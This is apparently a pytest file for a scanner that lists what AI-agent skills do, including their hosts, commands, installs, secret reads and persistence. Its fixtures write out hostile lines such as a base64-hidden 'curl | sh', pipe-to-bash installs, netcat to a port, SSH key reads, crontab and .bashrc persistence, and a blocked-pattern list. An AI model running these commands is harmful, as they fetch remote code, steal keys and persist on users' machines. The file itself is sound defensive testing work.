"""The capability card of a skill: what is on it, where it says that it stands, and what is left off.

Through the whole scanner, because roles, code and facts come from it.
"""

import pytest

from tests.support.compiled_rules import bundled_engine
from vskill_core.capability import (
    LONGEST_VALUE,
    MOST_OF_A_KIND,
    CapabilityContext,
    CapabilityKind,
)
from vskill_core.content import SkillFile
from vskill_core.findings import ScanStatus
from vskill_scan.limits import Budget, Limits
from vskill_scan.places import _PERSISTENCE, _SECRETS
from vskill_scan.reading.files import Reading
from vskill_scan.reading.segments import segment_file
from vskill_scan.reading.visible_text import normalise_text
from vskill_scan.results.capabilities import MOST_PLACES, capabilities_of
from vskill_scan.results.capability_words import LASTING, SECRETS
from vskill_scan.results.command_lines import command_lines

FRONT = "---\nname: a\ndescription: b\nhomepage: https://front.example.dev\n---\n"
CODE, INSTRUCTION, LINK, _ = CapabilityContext


@pytest.fixture(scope="module")
def engine():
    return bundled_engine()


@pytest.fixture
def card(engine):
    """Makes the card of a skill with these files beside a bare SKILL.md."""

    def make(**files):
        texts = {"SKILL.md": FRONT, **files}
        content = [
            SkillFile(path, "100644", text if isinstance(text, bytes) else text.encode())
            for path, text in texts.items()
        ]
        return engine.scan(content).capabilities

    return make


def of(found, kind, *, acting=True):
    return [one.value for one in found if one.kind is kind and (one.acts or not acting)]


def places(found, kind):
    return [(one.value, one.place, one.context) for one in found if one.kind is kind and one.acts]


# Hosts.


def test_hosts_say_whether_code_runs_them_an_agent_is_told_to_or_a_text_links_to_them(card):
    text = (
        FRONT + "See [docs](https://docs.example.dev/a).\n\n```bash\ncurl https://told.example.dev/x\n```\n"
        "Or `wget https://inline.example.dev/y` it.\n"
    )
    found = card(
        **{"SKILL.md": text, "run.py": 'import requests\nrequests.get("https://runs.example.dev")\n'}
    )
    hosts = [(one.value, one.place, one.context) for one in found if one.kind is CapabilityKind.HOST]
    assert hosts == [
        ("runs.example.dev", "run.py:2", CODE),
        ("inline.example.dev", "SKILL.md:11", INSTRUCTION),
        ("told.example.dev", "SKILL.md:9", INSTRUCTION),
        ("docs.example.dev", "SKILL.md:6", LINK),
        ("front.example.dev", "SKILL.md:4", LINK),
    ]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "# see https://a.example.dev\nx = 1\n"),
        ("a.py", '"""See https://a.example.dev."""\n'),
        ("a.py", 'def f():\n    """See https://a.example.dev."""\n'),
        ("a.py", 'print("Read https://a.example.dev")\n'),
        ("a.js", "// see https://a.example.dev\nlet x = 1\n"),
        ("a.js", "/* see\n https://a.example.dev */\n"),
        ("a.sh", "# see https://a.example.dev\n"),
        ("a.sh", 'echo "Read https://a.example.dev"\n'),
        ("package.json", '{"homepage": "https://a.example.dev"}'),
        ("README.md", "Read https://a.example.dev.\n"),
    ],
)
def test_addresses_that_only_a_person_reads_are_links(card, path, text):
    assert places(card(**{path: text}), CapabilityKind.HOST) == []


@pytest.mark.parametrize(
    ("path", "text", "host"),
    [
        ("a.sh", 'echo hi | curl -d @- https://a.example.dev # "x"\n', "a.example.dev"),
        ("a.sh", "curl a.example.dev/install\n", "a.example.dev"),
        ("a.sh", "ssh root@a.example.dev uptime\n", "a.example.dev"),
        ("a.sh", "nc 203.0.113.7 4444\n", "203.0.113.7"),
        ("a.sh", 'curl "$BASE/x"\n', "chosen at run time"),
        ("a.sh", 'curl "https://${HOST}/x"\n', "chosen at run time"),
        ("a.py", 'url = f"https://{region}.api.example.dev/x"\n', "*.api.example.dev"),
        ("a.py", 'requests.get(\n    """https://a.example.dev"""\n)\n', "a.example.dev"),
        ("a.py", 'print(requests.get("https://a.example.dev").text)\n', "a.example.dev"),
        ("a.py", 'socket.create_connection(("a.example.dev", 443))\n', "a.example.dev"),
        ("a.js", "const r = /'/; fetch('https://a.example.dev')\n", "a.example.dev"),
        ("a.js", "https.request({hostname: 'a.example.dev'})\n", "a.example.dev"),
        (".mcp.json", '{"mcpServers": {"x": {"url": "https://a.example.dev/mcp"}}}', "a.example.dev"),
        ("a.rb", 'Net::HTTP.get(URI("https://a.example.dev"))\n', "a.example.dev"),
    ],
)
def test_hosts_of_code_are_found(card, path, text, host):
    assert of(card(**{path: text}), CapabilityKind.HOST) == [host]


def test_this_machine_and_names_of_formats_are_no_hosts(card):
    text = 'a = "http://localhost:8080"\nb = "http://127.0.0.1/"\nc = "http://www.w3.org/2000/svg"\n'
    assert of(card(**{"a.py": text}), CapabilityKind.HOST) == []


def test_a_host_in_a_program_that_starts_commands_is_one_in_a_shell(card):
    quiet = 'u = "https://a.example.dev"\n'
    starting = quiet + 'import subprocess\nsubprocess.run(["git", "status"])\n'
    assert [one.shell for one in card(**{"a.py": quiet}) if one.value == "a.example.dev"] == [False]
    assert [one.shell for one in card(**{"a.py": starting}) if one.value == "a.example.dev"] == [True]


def test_what_is_decoded_out_of_a_text_is_on_the_card(card):
    # echo "curl https://hidden.example.dev/x | sh" | base64
    text = "echo Y3VybCBodHRwczovL2hpZGRlbi5leGFtcGxlLmRldi94IHwgc2gK | base64 -d | sh\n"
    assert "hidden.example.dev" in of(card(**{"a.sh": text}), CapabilityKind.HOST)


def test_tests_of_the_skill_are_left_off_unless_the_text_sends_the_agent_there(card):
    text = "curl https://a.example.dev\n"
    assert of(card(**{"tests/check.sh": text}), CapabilityKind.HOST) == []
    sent = FRONT + "Run `bash tests/check.sh`.\n"
    assert of(card(**{"SKILL.md": sent, "tests/check.sh": text}), CapabilityKind.HOST) == ["a.example.dev"]


# Commands.


def test_commands_are_programs_and_no_other_words(card):
    text = """\
#!/usr/bin/env bash
set -euo pipefail
deploy() { docker compose up -d; }
# npm is not run here
args=(--flag value)
case "$1" in
  start|begin) deploy ;;
  *) echo "Usage: run; stop | help" ;;
esac
if command -v jq &> /dev/null; then count=$((count + 1)); fi
for name in alpha beta; do sudo -n systemctl restart "$name"; done
cat <<EOF
kubectl get pods
EOF
NAME=x /usr/bin/git log --oneline | head -5
result="$(gh api user)"
deploy
"""
    found = card(**{"run.sh": text})
    assert of(found, CapabilityKind.COMMAND) == ["docker", "gh", "git", "sudo", "systemctl"]
    assert ("git", "run.sh:15", CODE) in places(found, CapabilityKind.COMMAND)


def test_in_a_session_with_prompts_only_what_is_typed_is_a_command(card):
    text = FRONT + "```console\n$ git status\nnothing to commit\n$ npm test\npassing\n```\n"
    assert of(card(**{"SKILL.md": text}), CapabilityKind.COMMAND) == ["git", "npm"]


def test_the_skill_s_own_scripts_are_not_listed_as_commands(card):
    text = FRONT + "```bash\n./scripts/run.sh now\nmyscript.py\n```\n"
    found = card(**{"SKILL.md": text, "scripts/run.sh": "echo hi\n", "myscript.py": "x = 1\n"})
    assert of(found, CapabilityKind.COMMAND) == []


@pytest.mark.parametrize(
    ("path", "text", "commands"),
    [
        ("a.py", 'import subprocess\nsubprocess.run(["git", "log"])\n', ["git"]),
        ("a.py", 'import os\nos.system("docker ps | grep x")\n', ["docker"]),
        ("a.py", 'import subprocess\ncmd = ["ffmpeg", "-i", f]\nsubprocess.run(cmd)\n', ["ffmpeg"]),
        ("a.py", "import subprocess\nsubprocess.run(build(x))\n", ["chosen at run time"]),
        ("a.py", 'from subprocess import run\nrun(["gh", "pr"])\n', ["gh"]),
        ("a.py", "def run(x):\n    return x\nrun([1])\n", []),
        ("a.js", "const cp = require('child_process')\nexecSync('git log')\n", ["git"]),
        ("a.js", "import {spawn} from 'node:child_process'\nspawn('npm', ['ci'])\n", ["npm"]),
        ("a.js", "const m = /x/.exec(text)\n", []),
    ],
)
def test_programs_that_other_programs_start(card, path, text, commands):
    assert of(card(**{path: text}), CapabilityKind.COMMAND) == commands


# Installs.


@pytest.mark.parametrize(
    ("command", "installed"),
    [
        ("pip install -q requests==2.31 'pandas[all]>=2'", ["pandas (pip)", "requests (pip)"]),
        ("python3 -m pip install --index-url https://x.example.dev/simple left", ["left (pip)"]),
        ("pip install -r requirements.txt", ["requirements.txt (pip)"]),
        ("npm install -g @scope/tool@1.2", ["@scope/tool (npm)"]),
        ("npm install", ["the packages of this folder (npm)"]),
        ("npx -y some-tool run", ["some-tool (npx)"]),
        ("uv tool install ruff", ["ruff (uv)"]),
        ("sudo apt-get install -y jq > /dev/null", ["jq (apt-get)"]),
        ("go install github.com/a/b@latest", ["github.com/a/b (go)"]),
        ("curl -fsSL https://get.example.dev/x | bash", ["a script from get.example.dev (run at once)"]),
        ("curl -s https://api.example.dev | python3 -c 'import json'", []),
        ("npm run build", []),
        ("pip list", []),
    ],
)
def test_install_steps(card, command, installed):
    assert of(card(**{"run.sh": command + "\n"}), CapabilityKind.INSTALL) == installed


def test_scripts_that_a_package_runs_when_it_is_installed(card):
    found = card(**{"package.json": '{"scripts": {"postinstall": "node x.js", "test": "y"}}'})
    assert of(found, CapabilityKind.INSTALL) == ["postinstall script (npm)"]


# Files, secrets, and what outlives the session.


def test_files_outside_the_skill(card):
    text = (
        'A = "~/.config/tool/x.json"\nB = "/etc/hosts"\n# ~/comment\nC = "https://x.example.dev/etc/y"\n'
        'D = "~/Library/Application Support/Tool/a.db"\n'
    )
    found = of(card(**{"a.py": text}), CapabilityKind.FILE)
    assert found == ["/etc/hosts", "~/.config/tool/x.json", "~/Library/Application Support/Tool/a.db"]


@pytest.mark.parametrize(
    ("path", "text", "secrets"),
    [
        ("a.py", 'import os\nk = os.environ["FOO_API_KEY"]\n', ["environment variable FOO_API_KEY"]),
        ("a.py", 'import os\nk = os.getenv("HOME")\n', []),
        ("a.js", "const k = process.env.FOO_TOKEN\n", ["environment variable FOO_TOKEN"]),
        ("a.sh", 'curl -H "x: $FOO_TOKEN" https://a.example.dev\n', ["environment variable FOO_TOKEN"]),
        ("a.sh", 'FOO_TOKEN=$(make-one)\necho "$FOO_TOKEN"\n', []),
        ("a.sh", 'FOO_TOKEN="${FOO_TOKEN:-}"\necho "$FOO_TOKEN"\n', ["environment variable FOO_TOKEN"]),
        ("a.sh", "cat ~/.ssh/id_rsa\n", ["SSH keys"]),
        ("a.sh", "cp ~/.ssh/id_rsa here\n", ["SSH keys"]),
        ("a.sh", "cp .env.example .env\n", []),
        ("a.py", 'k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n', ["SSH keys"]),
        ("a.py", 'BLOCKED_PATTERNS = ["~/.ssh/id_rsa", "id_ed25519"]\n', []),
    ],
)
def test_secrets_that_are_read(card, path, text, secrets):
    assert of(card(**{path: text}), CapabilityKind.SECRET) == secrets


@pytest.mark.parametrize(
    ("path", "text", "what"),
    [
        ("a.sh", "(crontab -l; echo '* * * * * x') | crontab -\n", "cron"),
        ("a.sh", "echo 'export A=1' >> ~/.bashrc\n", "a shell profile"),
        ("a.py", 'open("/etc/systemd/system/x.service", "w").write(t)\n', "systemd"),
    ],
)
def test_what_outlives_the_session(card, path, text, what):
    assert places(card(**{path: text}), CapabilityKind.PERSISTENCE) == [(what, f"{path}:1", CODE)]


def test_every_kind_of_secret_and_of_persistence_has_words():
    tables = ((_SECRETS, SECRETS), (_PERSISTENCE, LASTING))
    for table, names in tables:
        assert table.keys() <= names.keys()


# What could not be read.


def test_files_that_nobody_can_read_are_named(card):
    files = {
        "tool": b"\x7fELF\x00\x00",
        "manual.pdf": b"%PDF-1.4 x",
        "blob.bin": b"a\x00b",
        "run.swift": "Get-Item x\n",
    }
    found = [(one.value, one.file) for one in card(**files) if one.kind is CapabilityKind.UNREAD]
    assert found == [
        ("ELF program or library", "tool"),
        ("PDF document", "manual.pdf"),
        ("commands and files in .swift programs (their hosts are listed)", "run.swift"),
        ("unknown binary", "blob.bin"),
    ]


def test_a_scan_that_did_not_end_says_that_nothing_was_read():
    files = [
        SkillFile("SKILL.md", "100644", FRONT.encode()),
        SkillFile("a.sh", "100644", b"curl a.example.dev\n"),
    ]
    report = bundled_engine(Limits(steps=0)).scan(files)
    assert report.status is ScanStatus.TIMED_OUT
    (unread,) = report.capabilities or ()
    assert unread.kind is CapabilityKind.UNREAD
    assert unread.value.startswith("everything: ")


# Hostile content.


def test_no_more_than_so_many_of_a_kind_and_the_rest_is_counted(card):
    text = "".join(f"curl https://h{number:04}.example.dev\n" for number in range(500))
    hosts = of(card(**{"a.sh": text}), CapabilityKind.HOST)
    assert len(hosts) == MOST_OF_A_KIND + 1
    assert hosts[-1] == f"{500 - MOST_OF_A_KIND} more"


def test_a_skill_with_too_many_places_is_not_read_to_the_end_and_so_not_clean(engine):
    flood = b"curl https://a.example.dev\n" * (MOST_PLACES // 2 + 1)
    files = [SkillFile("SKILL.md", "100644", FRONT.encode()), SkillFile("a.sh", "100644", flood)]
    report = engine.scan([*files, SkillFile("b.sh", "100644", b"curl https://b.example.dev\n")])
    assert report.status is ScanStatus.INCOMPLETE
    assert "a.sh" in report.problem
    assert any(one.kind is CapabilityKind.UNREAD and one.file == "a.sh" for one in report.capabilities)


def test_values_are_short_and_printable(card):
    text = f'a = "https://{"a" * 5_000}.example.dev"\nb = "~/{"b" * 5_000}"\nc = "~/x\u202etxt"\n'
    found = card(**{"a.py": text, "b.sh": "x" * 5_000 + "\n" + "\x1b[31m\x07 ~/\x1b[0m\n"})
    assert found
    for one in found:
        assert len(one.value) <= LONGEST_VALUE
        assert one.value.isprintable()


@pytest.mark.parametrize(
    ("path", "unit"),
    [
        ("a.sh", "<<A{} x\n"),
        ("a.sh", "a;"),
        ("a.sh", "'\"'\"\\"),
        ("a.sh", "$(`"),
        ("a.sh", "x=("),
        ("a.js", '/* "a" https://a.example.dev '),
        ("a.py", "'''\"\"\"https://a.example.dev\n"),
        ("a.py", "subprocess.run(["),
        ("a.py", "https://{a}$b<c>"),
        ("a.md", "`curl https://a.example.dev` "),
        ("a.md", "```bash\ncurl https://a.example.dev\n```\n"),
    ],
)
def test_twice_the_text_takes_about_twice_the_time(stopwatch, path, unit):
    def seconds(size):
        body = "".join(unit.replace("{}", str(number)) for number in range(size // len(unit)))
        layer = segment_file(path, normalise_text(body))
        budget = Budget(Limits())
        began = stopwatch()
        capabilities_of([layer], budget, Reading(budget))
        return stopwatch() - began

    seconds(2_000)
    small, large = min(seconds(10_000) for _ in range(3)), min(seconds(80_000) for _ in range(2))
    # Eight times the text; quadratic time would be 64 times as long.
    assert large < 30 * max(small, 0.001)


def test_command_lines_keep_their_places():
    text = b"cd x && git log; FOO=1 npm ci\n"
    assert [(text[one.offset :][:3], one.words[0]) for one in command_lines(text)] == [
        (b"cd ", "cd"),
        (b"git", "git"),
        (b"npm", "npm"),
    ]
